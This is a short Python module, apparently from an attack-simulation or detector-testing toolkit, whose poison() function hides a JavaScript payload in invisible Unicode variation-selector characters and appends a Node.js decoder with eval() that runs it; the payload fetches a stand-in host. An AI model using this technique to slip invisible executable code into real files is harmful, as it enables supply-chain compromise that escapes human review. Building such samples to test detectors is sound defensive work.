# SPDX-License-Identifier: Apache-2.0
"""Code in characters that cannot be seen."""

ATTACK = "T1027"
LANGUAGE = "node"


def poison(layer):
    hidden = "".join(chr(0xE0100 + b - 16) if b >= 16 else chr(0xFE00 + b) for b in b"require('https').get('https://i.example.com')")
    layer.append("\nconst decode = (s) => [...s].map((c) => { c = c.codePointAt(0); return c >= 0xFE00 && c <= 0xFE0F ? c - 0xFE00 : c - 0xE0100 + 16; });\n"
                 f"eval(Buffer.from(decode(`{hidden}`)).toString('utf-8'));\n")
